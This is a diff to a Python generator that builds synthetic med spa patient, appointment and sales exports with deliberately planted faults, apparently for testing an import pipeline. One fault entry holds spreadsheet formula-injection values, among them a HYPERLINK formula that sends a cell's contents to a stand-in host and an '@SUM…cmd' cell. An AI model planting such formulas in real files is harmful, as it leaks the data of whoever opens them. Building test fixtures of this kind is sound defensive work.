@@ -1,5 +1,6 @@
 """The US med spa's reports, as Jane writes them, with what is wrong in them."""
 
+import random
 from datetime import date, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -38,6 +39,7 @@ def write_patients(world: World, folder: Path, faults: Faults) -> dict[str, list
         where.setdefault(row["true_guid"], []).append(place)
         _spoil(row, place, faults)
     _plant_numbers(rows, faults)
+    faults.rows[f"{PATIENTS}!Patients"] = len(rows)
     write(folder / PATIENTS, xlsx_bytes({"Patients": (US[f"{PATIENTS}!Patients"], rows)}))
     return where
 
@@ -45,11 +47,11 @@ def write_patients(world: World, folder: Path, faults: Faults) -> dict[str, list
 def _patient(world: World, person: Person) -> dict[str, Any]:
     draw = rng(world.seed, "patient", person.n)
     course, health, relative = world.courses[person.n], health_of(person), person.relatives[0]
-    first, last = course.visits[0], course.visits[-1]
+    first, last = course.visits[0], course.attended[-1]
     left = date(2024, 2, 2) if person.role == "old_record" else None
     phone = spell_phone(draw, person.phone, "us")
     return {
-        "true_guid": person.guid, "role": person.role, "visit": first.day, "true_born": person.born,
+        "true_guid": person.guid, "digits": person.phone, "role": person.role, "visit": first.day, "true_born": person.born,
         "guid": person.guid, "number": patient_number(person), "first": person.first,
         "middle": draw.choice(["", "", "Lee", "Ann", "J."]), "last": person.last,
         "known": person.known, "email": person.email, "mobile": phone, "home": person.phone2,
@@ -107,8 +109,8 @@ def _spoil(row: dict[str, Any], place: int, faults: Faults) -> None:
         "formula": ({"employer": '=HYPERLINK("http://prize.example/?q="&C2,"Open")',
                      "occupation": "@SUM(1+1)*cmd", "line2": "+1 Annex"}, "formula cells", f.KEPT,
                     "text that a spreadsheet would run"),
-        "phone_escape": ({"mobile": f"'+1{row['mobile'][-8:].strip()}", "home": "\\+14065550107"},
-                         "phone escapes", f.WARNING, "apostrophe and backslash before the plus"),
+        "phone_escape": ({"mobile": f"'+1{row['digits']}", "home": "\\+14065550107"},
+                         "phone escapes", f.KEPT, "apostrophe and backslash before the plus"),
         "card_in_note": ({"alert": "card on file 4111 1111 1111 1111 cvv 123"},
                          "card number in a field", f.MASKED, "a full card number and its code"),
         "unsubscribed": ({}, "marketing unsubscribed", f.KEPT, "no marketing, all else allowed"),
@@ -147,15 +149,15 @@ def _plant_numbers(rows: Rows, faults: Faults) -> None:
         faults.add("id as a number", PATIENTS, "Patients!4", f.WARNING, "its zeros are lost")
 
 
-def _states(visit: Visit, draw: Any) -> str:
-    return {"attended": "arrived", "no_show": "no_show"}.get(
+def _states(visit: Visit, draw: random.Random) -> str:
+    return {"attended": "arrived", "no_show": "no_show", "planned": "booked"}.get(
         visit.status, draw.choice(["cancelled", "cancelled", "archived"])
     )
 
 
 def write_appointments(world: World, folder: Path, faults: Faults) -> None:
     """Writes Appointments.csv: visits and breaks."""
-    visits = [(p, v) for p in world.people for v in world.courses[p.n].visits]
+    visits = [(p, v) for p in world.people for v in world.courses[p.n].booked]
     visits.sort(key=lambda pair: (pair[1].start, pair[0].n))
     rows: Rows = []
     for place, (person, visit) in enumerate(visits):
@@ -170,6 +172,7 @@ def write_appointments(world: World, folder: Path, faults: Faults) -> None:
         faults.add("end before start", APPOINTMENTS, 21, f.QUARANTINE, "changed places")
         rows[22]["guid"] = "00000000-0000-4000-8000-00000000dead"
         faults.add("unknown client", APPOINTMENTS, 23, f.QUARANTINE, "no patient has this guid")
+    faults.rows[APPOINTMENTS] = len(rows)
     write(folder / APPOINTMENTS, "\ufeff" + csv_text(US[APPOINTMENTS], rows))
 
 
@@ -212,6 +215,7 @@ def write_sales(world: World, folder: Path, faults: Faults) -> None:
                 if len(rows) < 400:
                     faults.add("reversal and new line", SALES, len(rows), f.KEPT,
                                "one invoice in three lines")  # fmt: skip
+    faults.rows[SALES] = len(rows)
     write(folder / SALES, "\ufeff" + csv_text(US[SALES], rows))
 
 
@@ -219,7 +223,7 @@ def _money(amount: float) -> str:
     return f"-${-amount:,.2f}" if amount < 0 else f"${amount:,.2f}"
 
 
-def _sale(draw: Any, person: Person, visit: Visit, place: int) -> dict[str, Any]:
+def _sale(draw: random.Random, person: Person, visit: Visit, place: int) -> dict[str, Any]:
     price = float(visit.price * max(1, len(visit.lines)))
     paid = pick(draw, (1.0, 9), (0.5, 0.6), (0.0, 0.4))
     status = {1.0: "paid", 0.5: "partially_paid", 0.0: "unpaid"}[paid] if price else "no_charge"
